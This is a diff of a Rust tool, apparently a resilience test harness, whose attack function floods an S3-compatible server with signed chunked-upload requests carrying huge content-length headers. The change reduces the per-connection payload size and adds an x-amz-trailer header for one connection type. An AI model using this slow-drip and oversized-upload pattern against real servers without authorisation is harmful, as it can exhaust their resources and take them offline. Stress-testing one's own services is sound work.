@@ -15,7 +15,7 @@ const ANNOUNCERS: usize = 64;
 const DRIPPERS: usize = 1000;
 const SLOW_READERS: usize = 256;
 /// What a connection that announces a chunk sends of it.
-const SENT_BYTES: usize = 8 << 20;
+const SENT_BYTES: usize = 1 << 20;
 const PAUSE: Duration = Duration::from_secs(1);
 
 /// How often each answer or end was seen.
@@ -63,7 +63,11 @@ async fn attack(target: &Target, kind: Kind, number: usize) -> io::Result<String
                 Kind::Announcer => ("STREAMING-UNSIGNED-PAYLOAD-TRAILER", "ffffffff\r\n".to_owned()),
                 _ => ("STREAMING-AWS4-HMAC-SHA256-PAYLOAD", format!("1000000{signature}\r\n")),
             };
-            let headers = [("content-length", "4294970000"), ("x-amz-decoded-content-length", "4294967295")];
+            let mut headers =
+                vec![("content-length", "4294970000"), ("x-amz-decoded-content-length", "4294967295")];
+            if matches!(kind, Kind::Announcer) {
+                headers.push(("x-amz-trailer", "x-amz-checksum-crc32"));
+            }
             let raw = signer.with_payload("PUT", &path, &headers, payload, &[]);
             let mut stream = connect(target.address, 3, None).await?;
             stream.write_all(&raw.bytes()).await?;
